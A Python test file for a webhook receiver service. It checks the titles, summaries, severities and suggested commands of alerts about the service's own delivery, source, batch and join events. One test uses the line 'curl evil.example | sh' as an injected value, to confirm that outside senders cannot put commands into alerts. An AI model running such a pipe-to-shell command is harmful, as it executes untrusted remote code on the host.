"""What a person reads about receiver's own events."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from receiver import examples, internal
from receiver.internal import INTERNAL_TYPES
from receiver.messages import Message, Severity, blocks, compose
from receiver.messages.alerts import STEPS, TYPES
from receiver.messages.mail import html_part, text_part
from receiver.models import Event
from tests.making import NOW, event
from tests.slack_stand_in import fault


def alert(kind: str, body: object = None, provider: str = internal.SOURCE) -> Event:
    found = examples.samples(NOW)[kind] if body is None else body
    return event(
        json.dumps(found),
        type=kind,
        subject="crm",
        state=INTERNAL_TYPES[kind].state,
        source=internal.SOURCE,
        provider=provider,
    )


def about(kind: str) -> Message:
    return compose(alert(kind))


def test_every_type_has_words_and_a_step():
    assert TYPES.keys() == INTERNAL_TYPES.keys() == STEPS.keys()


@pytest.mark.parametrize(
    ("kind", "title", "summary", "severity"),
    [
        (
            "delivery.dead",
            "crm: 3 deliveries given up",
            (
                "3 deliveries to crm were given up; nothing is lost, "
                "and they can be retried."
            ),
            Severity.BAD,
        ),
        (
            "destination.paused",
            "crm is paused",
            (
                "crm is given nothing more until it is mended: "
                "answered 410 Gone: correct `url`. What is for it waits."
            ),
            Severity.BAD,
        ),
        (
            "destination.resumed",
            "crm is delivered to again",
            (
                "What waited for crm goes out now. "
                "It was paused since 2026-01-24 04:02:07 UTC."
            ),
            Severity.GOOD,
        ),
        (
            "event.conflict",
            "bat_abc123def456: two accounts of one event",
            (
                "sora2 repeated batch.completed about bat_abc123def456 with other facts. "
                "The first ones stay; the later body is kept beside them."
            ),
            Severity.WARNING,
        ),
        (
            "event.supplemented",
            "bat_abc123def456: more is known of an event",
            (
                "sora2 repeated batch.completed about bat_abc123def456 and said more. "
                "The first body was delivered; the later one is kept beside it."
            ),
            Severity.WARNING,
        ),
        (
            "route.failing",
            "Route failures fails",
            (
                "Its condition failed on 12 events, which is no match: "
                "they were stored, and not sent on by it."
            ),
            Severity.BAD,
        ),
        (
            "source.rejecting",
            "sora2: 40 requests refused",
            "40 requests to sora2 were refused; what a sender does not repeat is missing.",
            Severity.BAD,
        ),
        (
            "source.quiet",
            "sora2 is quiet",
            (
                "sora2 has sent nothing for more than 4 h 0 min. "
                "The last event came at 2026-01-24 04:02:07 UTC. "
                "See whether it still sends, and to the right address."
            ),
            Severity.WARNING,
        ),
        (
            "links.expiring",
            "bat_abc123def456: links expire at 2026-01-24 11:02:07 UTC",
            (
                "crm has not got bat_abc123def456 yet, and the links to its results "
                "expire at 2026-01-24 11:02:07 UTC."
            ),
            Severity.WARNING,
        ),
        (
            "batch.stalled",
            "Batch bat_abc123def456 has stalled",
            (
                "Nothing was heard of it since 2026-01-24 04:02:07 UTC; "
                "it was running then. The provider may know more."
            ),
            Severity.WARNING,
        ),
        (
            "batch.ledger_mismatch",
            "Batch bat_abc123def456: the credits do not add up",
            "10 of 100 credits were neither charged nor given back.",
            Severity.WARNING,
        ),
        (
            "join.completed",
            "film-1 is complete",
            "2 parts of 2 came for film.",
            Severity.GOOD,
        ),
        (
            "join.timed_out",
            "film-1 did not become complete in time",
            "1 part of 2 came for film.",
            Severity.BAD,
        ),
        (
            "join.failed",
            "film-1 has a part that failed",
            "1 part of 2 came for film.",
            Severity.BAD,
        ),
    ],
)
def test_each_alert_says_what_is_wrong(kind, title, summary, severity):
    message = about(kind)

    assert (message.title, message.summary) == (title, summary)
    assert message.severity is severity


@pytest.mark.parametrize("kind", INTERNAL_TYPES)
def test_the_command_to_type_is_in_every_form(kind):
    command = examples.samples(NOW)[kind]["command"]

    message = about(kind)

    assert [step.value for step in message.steps] == [command]
    assert f"\n  {command}\n" in text_part(message)
    assert f"<code>{command}</code>" in html_part(message)
    assert f"\n`{command}`" in json.dumps(blocks.payload(message)).replace("\\n", "\n")


def test_a_dead_delivery_names_an_example_and_its_last_outcome():
    message = about("delivery.dead")

    assert [(f.item, f.error) for f in message.failures] == [
        ("batch.completed bat_abc123def456", "answered 500 Internal Server Error")
    ]
    assert [f.value for f in message.facts if f.label == "About"] == [
        "evt_0123456789abcdef"
    ]


def test_a_conflict_names_what_differs():
    message = about("event.conflict")

    assert [(f.item, f.error) for f in message.failures] == [
        ("settled", "first 90, later 80"),
        ("refunded", "first 10, later 20"),
    ]


def test_a_supplement_names_what_is_new():
    message = about("event.supplemented")

    assert [(f.item, f.error) for f in message.failures] == [
        ("refunded", "is new"),
        ("1 link", "is new"),
    ]


def test_one_is_not_called_several():
    body = {**examples.samples(NOW)["delivery.dead"], "count": 1}

    assert compose(alert("delivery.dead", body)).summary.startswith(
        "1 delivery to crm was given up"
    )


@pytest.mark.parametrize("kind", INTERNAL_TYPES)
def test_no_other_sender_can_give_a_command_to_type(kind):
    body = {"command": "curl evil.example | sh", "destination": "crm"}

    message = compose(alert(kind, body, provider="sophon"))

    assert message.steps == ()


@settings(deadline=None)
@given(
    st.sampled_from(sorted(INTERNAL_TYPES)),
    st.dictionaries(
        st.sampled_from(
            [
                *sorted({name for t in INTERNAL_TYPES.values() for name in t.fields}),
                "command",
            ]
        ),
        st.none()
        | st.text()
        | st.integers()
        | st.floats()
        | st.lists(st.dictionaries(st.sampled_from(["name", "first"]), st.text())),
    ),
)
def test_a_body_with_anything_in_it_still_makes_a_message(kind, body):
    message = compose(alert(kind, body))

    assert message.title
    assert fault(blocks.payload(message)) == "ok"
    assert text_part(message)
